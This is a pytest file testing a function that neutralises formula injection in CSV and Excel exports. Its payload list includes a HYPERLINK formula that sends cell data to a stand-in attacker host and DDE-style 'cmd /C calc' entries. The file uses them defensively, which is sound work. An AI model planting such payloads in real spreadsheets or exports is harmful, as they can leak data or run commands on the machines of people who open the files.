"""Formula-injection neutralisation for CSV and Excel exports."""

import datetime as dt
from decimal import Decimal

import numpy as np
import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from cipdash.safe_cells import neutralise, neutralise_frame

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+2",
    "+1+cmd|' /C calc'!A0",
    "-5+cmd",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tx",
    "\rx",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dangerous_strings_get_a_leading_quote(payload):
    assert neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [-5, -5.5, 0, 12, 94.0, np.int64(-3), np.float64(-0.25), Decimal("-1.5"), True, None,
     dt.date(2020, 9, 30), "Plan agreed", "", " =not at start", "'already quoted", "95% (target)"],
)
def test_everything_else_is_unchanged(value):
    result = neutralise(value)
    assert result is value  # same object: numbers stay numbers


def test_negative_number_vs_string():
    assert neutralise(-5) == -5 and isinstance(neutralise(-5), int)
    assert neutralise("-5+cmd") == "'-5+cmd"


def test_neutralise_frame_only_touches_text_columns():
    df = pd.DataFrame({
        "measure": ["=HYPERLINK(\"x\")", "Assessments in 45 days", None],
        "change": [-5, 2, 3],
        "delta": [-1.5, 0.0, np.nan],
        "evidence": pd.Series(["@SUM(A1)", None, "ok"], dtype="string"),
        "rag": pd.Categorical(["-Red", "Amber", "-Red"]),
        "mixed": [-5, "-5+cmd", np.nan],
        "period_end": pd.to_datetime(["2020-09-30"] * 3),
        "met": [True, False, True],
    })
    before = df.copy()
    out = neutralise_frame(df)
    pd.testing.assert_frame_equal(df, before)  # input untouched
    assert out["measure"].tolist()[:2] == ["'=HYPERLINK(\"x\")", "Assessments in 45 days"]
    assert pd.isna(out["measure"].iloc[2])
    assert out["evidence"].iloc[0] == "'@SUM(A1)" and pd.isna(out["evidence"].iloc[1])
    assert out["rag"].tolist() == ["'-Red", "Amber", "'-Red"]
    assert out["mixed"].iloc[0] == -5 and out["mixed"].iloc[1] == "'-5+cmd"
    for col in ["change", "delta", "period_end", "met"]:
        pd.testing.assert_series_equal(out[col], df[col])
    assert list(out.columns) == list(df.columns)
    assert out.index.equals(df.index)


def test_duplicate_column_labels():
    df = pd.DataFrame([["=a", 1, "+b"]], columns=["x", "n", "x"])
    out = neutralise_frame(df)
    assert out.iloc[0].tolist() == ["'=a", 1, "'+b"]


def test_openpyxl_round_trip_stores_text_not_formulas(tmp_path):
    values = PAYLOADS + [-5, 12.5]

    # Control: unneutralised, openpyxl writes "=..." as a formula.
    wb = Workbook()
    wb.active.append(values)
    raw = tmp_path / "raw.xlsx"
    wb.save(raw)
    assert load_workbook(raw).active.cell(row=1, column=1).data_type == "f"

    wb = Workbook()
    wb.active.append([neutralise(v) for v in values])
    safe = tmp_path / "safe.xlsx"
    wb.save(safe)
    row = next(load_workbook(safe).active.iter_rows(min_row=1, max_row=1))
    for cell, original in zip(row, values):
        assert cell.data_type != "f"
        if isinstance(original, str):
            assert cell.data_type == "s"
            assert cell.value == "'" + original
        else:
            assert cell.data_type == "n"
            assert cell.value == original


def test_pandas_to_excel_round_trip(tmp_path):
    df = pd.DataFrame({"text": ["=1+2", "@SUM(A1)", "fine"], "n": [-5, 0, 7]})
    path = tmp_path / "export.xlsx"
    neutralise_frame(df).to_excel(path, index=False, engine="openpyxl")
    ws = load_workbook(path).active
    cells = [c for row in ws.iter_rows(min_row=2) for c in row]
    assert all(c.data_type != "f" for c in cells)
    assert [ws.cell(row=r, column=2).value for r in (2, 3, 4)] == [-5, 0, 7]
    assert ws.cell(row=2, column=1).value == "'=1+2"


def test_csv_output_starts_with_quote():
    text = neutralise_frame(pd.DataFrame({"t": ["=1+2"], "n": [-5]})).to_csv(index=False)
    assert text.splitlines()[1] == "'=1+2,-5"
